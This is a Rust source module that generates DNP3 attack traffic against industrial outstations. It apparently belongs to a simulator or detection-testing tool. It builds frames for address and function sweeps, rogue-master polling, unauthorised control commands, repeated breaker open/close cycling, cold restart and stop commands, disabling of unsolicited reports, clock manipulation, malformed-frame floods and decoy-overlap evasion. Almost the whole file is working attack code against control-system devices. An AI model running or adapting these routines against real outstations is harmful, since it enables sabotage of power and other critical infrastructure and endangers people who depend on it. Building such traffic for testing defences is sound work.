//! Attacks on DNP3 outstations.

use super::Behaviour;
use super::plan::{Target, asked};
use super::steps::Step;
use crate::encode::dnp3::{control, link_frame};
use crate::master::{command, command_body};
use crate::station::dnp3::{framed, function as fc};

const CLASSES: [u8; 9] = [60, 2, 6, 60, 3, 6, 60, 4, 6];
const INTEGRITY: [u8; 12] = [60, 2, 6, 60, 3, 6, 60, 4, 6, 60, 1, 6];

pub(super) fn steps(mut target: Target<'_>) -> Vec<Step> {
    let (place, own, station) = (target.place, target.link_address(), target.number);
    let every = target.every(200);
    // Requests with numbers in order.
    let message = |number: u32, function: u8, objects: &[u8]| {
        framed(own, station, number as u8 & 15, function, objects, number as u8 & 63)
    };
    match target.attack.behaviour {
        Behaviour::LinkAddressSweep => asked(
            place,
            every,
            target.numbers().map(|n| link_frame(control::LINK_STATUS_REQUEST, n, own, &[])),
        ),
        Behaviour::FunctionSweep => {
            let harmless = |n: &u16| !matches!(n, 0 | 2..=6 | 13 | 14);
            let request = |n: u16| message(u32::from(n), n as u8, &[]);
            asked(place, every, target.numbers().filter(harmless).map(request))
        }
        Behaviour::RegisterSweep => {
            let request = |n: u16| {
                let index = n.to_le_bytes();
                message(u32::from(n), fc::READ, &[30, 0, 1, index[0], index[1], index[0], index[1]])
            };
            asked(place, every, target.numbers().map(request))
        }
        Behaviour::Identification => asked(place, every, [message(0, fc::READ, &[0, 254, 0, 0, 0])]),
        Behaviour::RogueMaster => {
            let every = target.every(2000);
            let mut requests = vec![message(0, fc::READ, &INTEGRITY)];
            let more = target.rounds(2000) as u32;
            requests.extend((1..more).map(|n| message(n, fc::READ, &CLASSES)));
            asked(place, every, requests)
        }
        Behaviour::UnauthorisedControl => {
            let word = target.attack.command.clone();
            asked(place, every, controls(&target, word.as_deref(), 0))
        }
        Behaviour::BreakerCycling => {
            let every = target.every(2000);
            let words = ["open", "close"];
            let mut number = 0;
            let mut requests = Vec::new();
            for round in 0..target.count() {
                let made = controls(&target, Some(words[round as usize % 2]), number);
                number += made.len() as u32;
                requests.extend(made);
            }
            asked(place, every, requests)
        }
        Behaviour::Restart => asked(place, every, [message(0, fc::COLD_RESTART, &[])]),
        Behaviour::Stop => asked(place, every, [message(0, 18, &[])]),
        Behaviour::DisableUnsolicited => asked(place, every, [message(0, fc::DISABLE_UNSOLICITED, &CLASSES)]),
        Behaviour::TimeManipulation => {
            let wrong =
                target.begin as i64 / 1_000_000 + (target.attack.value.unwrap_or(0.0) * 1000.0) as i64;
            let objects = [&[50, 1, 7, 1], &wrong.to_le_bytes()[..6]].concat();
            asked(place, every, [message(0, fc::WRITE, &objects)])
        }
        Behaviour::MalformedFlood => malformed(&mut target),
        Behaviour::OverlapEvasion => {
            let word = target.attack.command.clone();
            let Some(real) = controls(&target, word.as_deref(), 1).pop() else { return Vec::new() };
            let mut decoy = message(1, fc::READ, &CLASSES);
            decoy.resize(real.len(), 0);
            vec![Step::Overlap { place, decoy, real }, Step::Wait(500_000_000), Step::Close]
        }
        _ => Vec::new(),
    }
}

/// The messages of a command: direct, or select and operate.
fn controls(target: &Target<'_>, word: Option<&str>, number: u32) -> Vec<Vec<u8>> {
    let attack = target.attack;
    let point = attack.point.as_deref().unwrap_or("");
    let Ok(command) = command(target.spec, point, word.unwrap_or(""), attack.value) else {
        return Vec::new();
    };
    let functions: &[u8] = if attack.select { &[fc::SELECT, fc::OPERATE] } else { &[fc::DIRECT_OPERATE] };
    let message = |(place, function): (usize, &u8)| {
        let number = number + place as u32;
        let body = command_body(command, *function);
        framed(
            target.link_address(),
            target.number,
            number as u8 & 15,
            *function,
            &body[1..],
            number as u8 & 63,
        )
    };
    functions.iter().enumerate().map(message).collect()
}

/// Frames with wrong checksums, functions that are none, objects that do not fit.
fn malformed(target: &mut Target<'_>) -> Vec<Step> {
    let (own, station, every) = (target.link_address(), target.number, target.every(10));
    let mut steps = Vec::new();
    for number in 0..target.count() {
        let number = number as u8;
        let bytes = match target.prng.below(4) {
            0 => {
                let mut bytes = framed(own, station, number & 15, fc::READ, &CLASSES, number & 63);
                let last = bytes.len() - 1;
                bytes[last] ^= 0xff;
                bytes
            }
            1 => framed(own, station, number & 15, 99, &[], number & 63),
            2 => {
                framed(own, station, number & 15, fc::DIRECT_OPERATE, &[12, 1, 0x17, 200, 0, 3], number & 63)
            }
            _ => framed(own, station, number & 15, fc::READ, &[30, 1, 0, 9, 2], number & 63),
        };
        steps.extend([Step::Tell(target.place, bytes), Step::Wait(every)]);
    }
    steps.push(Step::Close);
    steps
}
